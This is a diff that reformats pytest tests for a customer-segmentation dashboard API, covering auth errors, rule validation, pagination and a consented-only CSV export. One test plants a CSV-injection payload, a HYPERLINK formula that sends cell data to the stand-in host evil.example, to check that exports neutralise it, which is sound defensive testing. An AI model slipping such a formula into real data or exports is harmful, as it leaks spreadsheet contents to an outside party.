@@ -54,8 +54,10 @@ def test_json_endpoints_answer_401_and_403_in_the_error_shape(app, demo_store):
     _is_error_shape(r.json(), 401)
     viewer = _client(app, "viewer", demo_store)
     assert viewer.get("/api/v1/dashboard/overview").status_code == 200
-    for method, url, body in [("post", "/api/v1/dashboard/segments", {"name": "x", "rule": "orders >= 1"}),
-                              ("get", "/api/v1/dashboard/segments/loyal/export.csv", None)]:  # fmt: skip
+    for method, url, body in [
+        ("post", "/api/v1/dashboard/segments", {"name": "x", "rule": "orders >= 1"}),
+        ("get", "/api/v1/dashboard/segments/loyal/export.csv", None),
+    ]:
         r = viewer.request(method, url, json=body)
         assert r.status_code == 403, url
         _is_error_shape(r.json(), 403)
@@ -78,8 +80,9 @@ def test_login_sets_an_http_only_same_site_cookie(app, demo_store):
 
 
 def test_bad_rule_answers_422_with_the_character_position(app, demo_store):
-    r = _client(app, "viewer", demo_store).post("/api/v1/dashboard/segments/preview",
-                                                json={"rule": "orders >= 2 AND revnue > 10"})  # fmt: skip
+    r = _client(app, "viewer", demo_store).post(
+        "/api/v1/dashboard/segments/preview", json={"rule": "orders >= 2 AND revnue > 10"}
+    )
     assert r.status_code == 422
     body = r.json()
     _is_error_shape(body, 422)
@@ -89,22 +92,33 @@ def test_bad_rule_answers_422_with_the_character_position(app, demo_store):
 
 
 def test_preview_counts_match_sql(app, demo_store):
-    r = _client(app, "viewer", demo_store).post("/api/v1/dashboard/segments/preview",
-                                                json={"rule": "orders >= 2 AND revenue > 300", "sample": 5})  # fmt: skip
+    r = _client(app, "viewer", demo_store).post(
+        "/api/v1/dashboard/segments/preview", json={"rule": "orders >= 2 AND revenue > 300", "sample": 5}
+    )
     body = r.json()
-    expected = _sql(app, "SELECT count(*), sum(revenue) / (SELECT sum(revenue) FROM customer_features) "
-                         "FROM customer_features WHERE orders >= 2 AND revenue > 300")[0]  # fmt: skip
+    expected = _sql(
+        app,
+        "SELECT count(*), sum(revenue) / (SELECT sum(revenue) FROM customer_features) "
+        "FROM customer_features WHERE orders >= 2 AND revenue > 300",
+    )[0]
     assert body["size"] == expected[0]
     assert body["revenue_share"] == pytest.approx(expected[1])
-    assert len(body["sample"]) == 5 and [s["customer_id"] for s in body["sample"]] == sorted(s["customer_id"] for s in body["sample"])
+    assert len(body["sample"]) == 5 and [s["customer_id"] for s in body["sample"]] == sorted(
+        s["customer_id"] for s in body["sample"]
+    )
 
 
 def test_member_pages_cover_the_segment_once_and_are_capped(app, demo_store):
     client = _client(app, "viewer", demo_store)
     first = client.get("/api/v1/dashboard/segments/loyal/members?page=1&size=40").json()
-    seen = [r["customer_id"] for p in range(1, first["pages"] + 1)
-            for r in client.get(f"/api/v1/dashboard/segments/loyal/members?page={p}&size=40").json()["rows"]]  # fmt: skip
-    truth = [r[0] for r in _sql(app, "SELECT customer_id FROM customer_features WHERE orders >= 4 ORDER BY customer_id")]
+    seen = [
+        r["customer_id"]
+        for p in range(1, first["pages"] + 1)
+        for r in client.get(f"/api/v1/dashboard/segments/loyal/members?page={p}&size=40").json()["rows"]
+    ]
+    truth = [
+        r[0] for r in _sql(app, "SELECT customer_id FROM customer_features WHERE orders >= 4 ORDER BY customer_id")
+    ]
     assert seen == truth and first["total"] == len(truth)
     assert client.get("/api/v1/dashboard/segments/loyal/members?size=100000").json()["size"] == 200
 
@@ -113,8 +127,14 @@ def test_export_keeps_only_consented_members_and_says_how_many_were_left_out(app
     r = _client(app, "marketer", demo_store).get("/api/v1/dashboard/segments/loyal/export.csv")
     assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
     ids = [line.split(",")[0] for line in r.text.strip().splitlines()[1:]]
-    truth = [x[0] for x in _sql(app, """SELECT f.customer_id FROM customer_features f JOIN customers c USING (customer_id)
-                                         WHERE f.orders >= 4 AND c.email_marketing ORDER BY 1""")]  # fmt: skip
+    truth = [
+        x[0]
+        for x in _sql(
+            app,
+            """SELECT f.customer_id FROM customer_features f JOIN customers c USING (customer_id)
+                                         WHERE f.orders >= 4 AND c.email_marketing ORDER BY 1""",
+        )
+    ]
     assert ids == truth
     assert int(r.headers["x-shopseg-exported"]) == len(truth)
     assert int(r.headers["x-shopseg-left-out"]) == demo_store.expected["loyal_size"] - len(truth) > 0
@@ -150,8 +170,11 @@ def test_plotly_is_served_from_the_installed_package_and_pages_link_nothing_outs
 def test_members_csv_neutralises_spreadsheet_formulas(app, demo_store):
     """Issue 14, defect 3: a city typed as a formula is written as text (OWASP "CSV Injection")."""
     payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-    victim = _sql(app, """SELECT f.customer_id FROM customer_features f JOIN customers c USING (customer_id)
-                          WHERE f.orders >= 4 AND c.email_marketing ORDER BY 1 LIMIT 1""")[0][0]  # fmt: skip
+    victim = _sql(
+        app,
+        """SELECT f.customer_id FROM customer_features f JOIN customers c USING (customer_id)
+                          WHERE f.orders >= 4 AND c.email_marketing ORDER BY 1 LIMIT 1""",
+    )[0][0]
     old = _sql(app, "SELECT city FROM customers WHERE customer_id = ?", [victim])[0][0]
     _sql(app, "UPDATE customers SET city = ? WHERE customer_id = ?", [payload, victim])
     try:
